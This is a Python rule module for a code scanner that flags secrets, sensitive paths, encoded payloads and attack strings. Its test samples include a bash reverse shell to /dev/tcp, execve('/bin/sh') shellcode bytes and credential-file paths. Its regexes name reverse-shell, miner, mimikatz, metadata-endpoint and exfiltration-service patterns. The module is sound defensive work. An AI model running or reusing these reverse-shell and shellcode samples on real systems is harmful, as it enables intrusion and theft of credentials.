"""Checks string literals: payloads, tokens, sensitive paths, obfuscated names."""

from __future__ import annotations

import ast
import base64
import re

from engine.analysis.python.declare import python_rule
from engine.analysis.python.evaluate.evaluator import Evaluator
from engine.analysis.python.evaluate.values import PythonValue
from engine.analysis.python.rules import objects
from engine.analysis.python.sinks.paths import is_secret_store, is_sensitive
from engine.models import Confidence, Language, Level

SENSITIVE_NAME = python_rule(
    "py-sensitive-path",
    "A sensitive path is named",
    "fs_sensitive",
    Level.MEDIUM,
    attack="Locates accounts, keys, tokens and browser secrets.",
    why="MEDIUM: this is only a string; HIGH for what stores passwords, keys or wallets.",
    fix="Remove it.",
    match=("x = '~/.ssh/id_rsa'", "find('/etc/shadow')"),
    not_match=("x = 'ssh'", "x = 'identity'"),
    cwe=552,
)
HARDCODED = python_rule(
    "py-hardcoded-secret",
    "The code contains a token",
    "secrets_env",
    Level.MEDIUM,
    attack="Lets every reader use it, or sends stolen data to the attacker's account.",
    why="MEDIUM: it has the format of a real token; HIGH for that of a chat, where stolen data is sent.",
    fix="Revoke this token, and request the secret by reference.",
    match=("t = 'AKIAIOSFODNN7EXAMPLE'", "t = 'ghp_' 'abcdefghijklmnopqrstuvwxyz0123456789'"),
    not_match=("t = 'AKIA'",),
    cwe=798,
)
PAYLOAD = python_rule(
    "py-payload",
    "A string contains encoded code or machine code",
    "obfuscation",
    Level.HIGH,
    attack="Carries a payload that the reader does not notice.",
    why=(
        "HIGH: code is encoded to keep it from being read; CRITICAL where it runs; MEDIUM for bytes that "
        "only look like it."
    ),
    fix="Submit the decoded content.",
    match=(
        "x = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnbHMnKQ=='",
        f"shellcode = [{'0x90, ' * 16}]",
        r"x = b'\x31\xc0\x50\x68//sh\x68/bin\x89\xe3\x50\x53\x89\xe1\x99\xb0\x0b\xcd\x80'",
    ),
    not_match=("x = 'aGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0'", "x = b'\\x89PNG\\r\\n'"),
    cwe=506,
)
ATTACK_TEXT = python_rule(
    "py-attack-text",
    "A string is typical of an attack",
    "malware",
    Level.HIGH,
    attack="Names a collection server, a tool or a command of an attack.",
    why="HIGH: honest programs do not name these; MEDIUM for services that honest programs use too.",
    fix="Remove it.",
    match=("x = 'bash -i >& /dev/tcp/10.0.0.1/80 0>&1'",),
    not_match=("x = 'ssh'",),
    cwe=506,
)
OBFUSCATOR = python_rule(
    "py-obfuscator",
    "The code looks like the output of an obfuscator",
    "obfuscation",
    Level.HIGH,
    attack="Makes the code unreadable.",
    why="HIGH: people do not write such names.",
    fix="Submit the original code.",
    match=("__obfuscator__ = 'x'", "O0O0O0O0O = 1", "_____ = 1"),
    not_match=("O = 0", "_ = 1", "__ = 2"),
    confidence=Confidence.MEDIUM,
    cwe=506,
)


_TOKEN = re.compile(
    r"\bAKIA[0-9A-Z]{16}\b|\bgh[pousr]_[A-Za-z0-9]{36}|\bgithub_pat_\w{50}|\bxox[abprs]-[0-9A-Za-z-]{20}|"
    r"\bsk-(?:proj-|ant-)?[A-Za-z0-9_-]{32}|\b\d{8,10}:[A-Za-z0-9_-]{34,36}\b|-----BEGIN [A-Z ]*PRIVATE KEY|"
    r"\bAIza[0-9A-Za-z_-]{35}\b|\bglpat-[\w-]{20}|\bSG\.[\w-]{22}\.|\bpypi-AgEI|\bnpm_[A-Za-z0-9]{36}|"
    r"discord(?:app)?\.com/api/webhooks/\d+|hooks\.slack\.com/services/T"
)
_CHANNEL = re.compile(r"^(?:bot)?\d{8,10}:[A-Za-z0-9_-]{34,36}$|discord(?:app)?\.com/api/webhooks/\d{17,}")
"""Keys of chats that stolen data is sent to."""
_SHORTEST_TOKEN = 20
_ATTACK = re.compile(
    r"/dev/tcp/|\bbash -i\b|\bnc (?:-\w+ )*-e\b|mkfifo /tmp|/bin/sh -i|\bmeterpreter\b|\bmimikatz\b|"
    r"stratum\+tcp|\bxmrig\b|pastebin\.com/raw|\.onion\b|oast\.(?:fun|pro|live|site|me)|burpcollaborator|"
    r"interactsh|webhook\.site|ngrok\.io|requestbin|\bcve-\d{4}-\d{4,}|"
    r"rm -rf /|:\(\)\s*\{|powershell.{0,20}-e(?:nc)?\b|"
    r"invoke-webrequest|downloadstring|169\.254\.169\.254|metadata\.google\.internal|"
    r"api\.telegram\.org/bot",
)
_ALWAYS_ATTACK = re.compile(
    r"/dev/tcp/|\bbash -i\b|\bnc (?:-\w+ )*-e\b|mkfifo /tmp|/bin/sh -i|meterpreter|mimikatz|"
    r"stratum\+tcp|\bxmrig\b|oast\.(?:fun|pro|live|site|me)|burpcollaborator|interactsh|webhook\.site|requestbin|"
    r"rm -rf /(?:\s|\*|$)|"
    r":\(\)\s*\{|powershell.{0,20}-e(?:nc)?\b|invoke-webrequest|downloadstring|169\.254\.169\.254|metadata\.google\.internal"
)
_GADGET = re.compile(r"__(?:subclasses|globals|builtins|mro|reduce(?:_ex)?)__|__import__\s*\(")
"""What a text of a template, a formula or a query reaches for to leave it."""
_BASE64 = re.compile(r"^[A-Za-z0-9+/\s]{24,}={0,2}\s*$")
_CODE = re.compile(
    rb"\bimport\s+\w+|\bexec\s*\(|\beval\s*\(|\bos\.|\bsubprocess|__import__|/bin/(?:ba)?sh|#!/|"
    rb"powershell|lambda\b|\bdef \w+\("
)
_OBFUSCATED = re.compile(
    r"^(?:_{4,}|_?[O0]{6,}|_?[Il1]{6,}|_0x[0-9a-f]{3,}|__(?:PYO|obfuscator|pyarmor|pyminify)\w*)$"
)
_MIN_SHELLCODE = 16
_LONG_ENCODED = 4096
"""Base64 of this length and no other character is not searched for words."""


def check_text(evaluator: Evaluator, node: ast.Constant) -> None:
    """Look at one literal of text or bytes."""
    text = node.value
    if isinstance(text, bytes):
        _check_bytes(evaluator, node, text)
    elif isinstance(text, str) and len(text) >= 8:
        _check_words(evaluator, node, text)


def _check_words(evaluator: Evaluator, node: ast.Constant, text: str) -> None:
    if len(text) >= _LONG_ENCODED and _BASE64.match(text):
        _check_encoded(evaluator, node, text)
        return
    if (len(text) >= _SHORTEST_TOKEN or "pypi-" in text) and _TOKEN.search(text):
        level = Level.HIGH if _CHANNEL.search(text) else None
        evaluator.report(HARDCODED, node, "Has the format of a real token", severity=level)
    if _ATTACK.search(text.lower()):
        level = None if _ALWAYS_ATTACK.search(text.lower()) else Level.MEDIUM
        evaluator.report(ATTACK_TEXT, node, f"`{text.strip()[:80]}`", severity=level)
    elif "_" in text and _GADGET.search(text):
        evaluator.report(objects.PROBE, node, f"Code for another interpreter: `{text.strip()[:80]}`")
    elif len(text) < 300 and is_sensitive(text):
        level = Level.HIGH if is_secret_store(text) else None
        evaluator.report(SENSITIVE_NAME, node, f"Names `{text.strip()[:80]}`", severity=level)
    if len(text) >= 24 and _BASE64.match(text):
        _check_encoded(evaluator, node, text)
    elif not text.isascii():
        _check_bytes(evaluator, node, text.encode("latin-1", "ignore") if _is_latin(text) else b"")


def _is_latin(text: str) -> bool:
    return all(ord(char) < 256 for char in text)


def _check_bytes(evaluator: Evaluator, node: ast.AST, data: bytes) -> None:
    """Machine code: mostly not text, without the head of a known format."""
    if len(data) < _MIN_SHELLCODE or data[:4] in (
        b"\x89PNG",
        b"GIF8",
        b"\xff\xd8\xff\xe0",
        b"PK\x03\x04",
        b"%PDF",
    ):
        return
    binary = sum(byte < 9 or 13 < byte < 32 or byte > 126 for byte in data[:400])
    telling = (
        b"/bin" in data
        or b"//sh" in data
        or b"\xcd\x80" in data
        or b"\x0f\x05" in data
        or b"\x90\x90" in data
    )
    if binary * 4 > min(len(data), 400) and (telling or (binary * 2 > len(data) and len(set(data)) > 12)):
        level = None if telling else Level.MEDIUM
        evaluator.report(PAYLOAD, node, f"{len(data):,} bytes that look like machine code", severity=level)


def _check_encoded(evaluator: Evaluator, node: ast.Constant, text: str) -> None:
    compact = "".join(text.split())
    try:
        data = base64.b64decode(compact + "=" * (-len(compact) % 4))
    except ValueError:
        return
    if data[:2] in (b"\x78\x9c", b"\x1f\x8b", b"MZ") or data[:4] == b"\x7fELF":
        evaluator.report(PAYLOAD, node, "base64 of compressed content or a program")
        return
    found = _CODE.search(data)
    if found is None:
        return
    evaluator.report(PAYLOAD, node, f"base64 of code: `{found.group().decode('latin-1')}`")
    value = PythonValue()
    value.layers = ("base64",)
    code = data.decode("utf-8", "replace")
    if not evaluator.was_embedded(code):
        evaluator.embed(code, Language.PYTHON, node, value, "text")


def check_numbers(evaluator: Evaluator, node: ast.List | ast.Tuple | ast.Set) -> None:
    """Look at a long list of byte values."""
    numbers = [part.value for part in node.elts if isinstance(part, ast.Constant)]
    if not all(type(part) is int and 0 <= part < 256 for part in numbers[:256]):
        return
    data = bytes(part for part in numbers[:4096] if isinstance(part, int) and 0 <= part < 256)
    if len(numbers) >= _SHORTEST_CODE and _named_as_code(evaluator, node):
        evaluator.report(PAYLOAD, node, f"{len(numbers):,} bytes that the code itself calls machine code")
    elif _CODE.search(data) or (len(numbers) >= 64 and len(set(data)) > 24 and _hexadecimal(evaluator, node)):
        level = None if _CODE.search(data) else Level.MEDIUM
        evaluator.report(PAYLOAD, node, f"{len(numbers):,} numbers that are bytes of code", severity=level)


_SHORTEST_CODE = 16
_CALLED_CODE = re.compile(r"(?i)\b\w*(?:shell_?code|machine_?code)\w*\s*=\s*(?:bytes|bytearray)?\s*\(?\s*$")


def _named_as_code(evaluator: Evaluator, node: ast.expr) -> bool:
    """Whether a literal is assigned to a name that says that it is machine code."""
    before = evaluator.source.split("\n", node.lineno)[node.lineno - 1][: node.col_offset]
    return _CALLED_CODE.search(before) is not None


def _hexadecimal(evaluator: Evaluator, node: ast.AST) -> bool:
    return "0x" in evaluator.code(node, limit=40)


def check_name(evaluator: Evaluator, node: ast.AST, name: str) -> None:
    """Look at a name that the code itself gives."""
    if _OBFUSCATED.match(name):
        evaluator.report(OBFUSCATOR, node, f"`{name[:40]}` is not a name that a person would choose")
